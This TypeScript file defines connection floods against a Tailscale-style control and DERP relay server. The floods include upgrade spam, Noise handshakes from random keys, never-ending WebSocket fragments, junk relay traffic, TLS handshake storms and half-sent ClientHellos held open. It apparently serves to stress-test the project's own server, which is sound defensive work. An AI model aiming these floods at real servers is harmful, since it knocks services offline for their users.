/** Floods of upgrades: bare ones, handshakes of machines that nobody knows, WebSockets, relay clients, TLS. */
import { Buffer } from 'node:buffer';
import { randomBytes } from 'node:crypto';
import tls from 'node:tls';
import { begin } from '@malla/noise/handshake';
import { nodeCrypto } from '@malla/platform/crypto/noise';
import { importPrivate } from '@malla/platform/crypto/x25519';
import { type Aim, connect, type Flood, head, held, lanes, sendAndHold } from './aim.ts';

const UPGRADE = 'tailscale-control-protocol';
const WEB_SOCKET = [
  'Connection: upgrade',
  'Upgrade: websocket',
  'Sec-WebSocket-Version: 13',
  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
] as const;

/** Initiations of so many machines, made once: they may be sent again and again. */
function initiations(aim: Aim, count: number): readonly string[] {
  const server = Buffer.from(aim.noiseKey, 'hex');
  return Array.from({ length: count }, () => {
    const begun = begin(key(), server, key(), 142, nodeCrypto);
    if (!begun.ok) throw new Error(begun.error);
    return Buffer.from(begun.value.initiation).toString('base64');
  });
}

function key(): ReturnType<typeof importPrivate> {
  return importPrivate(randomBytes(32));
}

/** Upgrades that are none, which cost the attacker nothing. */
export const bareUpgrades: Flood = async (aim) => {
  const request = head(aim, 'POST /ts2021', 'Connection: upgrade', 'Upgrade: x');
  await lanes(200, () => sendAndHold(aim, request, 1_000));
};

/** Handshakes that have the right shape and nothing in it. */
export const emptyHandshakes: Flood = async (aim) => {
  const frame = Buffer.concat([Buffer.from([0, 142, 1, 0, 96]), randomBytes(96)]);
  const request = head(
    aim,
    'POST /ts2021',
    'Connection: upgrade',
    `Upgrade: ${UPGRADE}`,
    `X-Tailscale-Handshake: ${frame.toString('base64')}`,
  );
  await lanes(200, () => sendAndHold(aim, request, 1_000));
};

/** Handshakes of real machines, held open. */
export const handshakes: Flood = async (aim) => {
  const frames = initiations(aim, 200);
  let next = 0;
  await lanes(2_000, async () => {
    const frame = frames[next++ % frames.length] ?? '';
    const request = head(
      aim,
      'POST /ts2021',
      'Connection: upgrade',
      `Upgrade: ${UPGRADE}`,
      `X-Tailscale-Handshake: ${frame}`,
    );
    await sendAndHold(aim, request, 5_000);
  });
};

/** The same as browsers do it, with fragments that never end and pings. */
export const webSockets: Flood = async (aim) => {
  const frames = initiations(aim, 200);
  const garbage = Buffer.concat(
    Array.from({ length: 200 }, () =>
      Buffer.concat([
        Buffer.from([0x02, 0x84, 0, 0, 0, 0]),
        Buffer.alloc(4),
        Buffer.from([0x89, 0x80, 0, 0, 0, 0]),
      ]),
    ),
  );
  let next = 0;
  await lanes(1_000, async () => {
    const query = encodeURIComponent(frames[next++ % frames.length] ?? '');
    const request = head(
      aim,
      `GET /ts2021?X-Tailscale-Handshake=${query}`,
      ...WEB_SOCKET,
      `Sec-WebSocket-Protocol: ${UPGRADE}`,
    );
    await sendAndHold(aim, Buffer.concat([Buffer.from(request), garbage]), 5_000);
  });
};

/** Connections to the relay: TLS, the upgrade, and then nothing, or what is no frame. */
export const relayClients: Flood = async (aim) => {
  let next = 0;
  await lanes(500, async () => {
    const socket = await connect(aim, aim.derpPort);
    if (socket === undefined) return;
    const secure = tls.connect({ socket, rejectUnauthorized: false });
    secure.on('error', () => {});
    const request = head(aim, 'GET /derp', 'Connection: upgrade', 'Upgrade: DERP');
    secure.write(request);
    if (next++ % 2 === 0) secure.write(randomBytes(2_000));
    await held(socket, 3_000);
  });
};

/** Handshakes of TLS, as many as there can be. */
export const tlsHandshakes: Flood = async (aim) => {
  await lanes(50, async () => {
    const socket = await connect(aim, aim.derpPort);
    if (socket === undefined) return;
    const secure = tls.connect({ socket, rejectUnauthorized: false });
    secure.on('error', () => {});
    secure.once('secureConnect', () => socket.destroy());
    await held(socket, 2_000);
  });
};

/** Half a ClientHello, on as many connections as there can be. */
export const halfHellos: Flood = async (aim) => {
  const hello = Buffer.concat([
    Buffer.from([22, 3, 1, 0x3f, 0xff, 1, 0, 0x3f, 0xf0]),
    randomBytes(15_000),
  ]);
  await lanes(6_000, () => sendAndHold(aim, hello, 30_000, aim.derpPort));
};
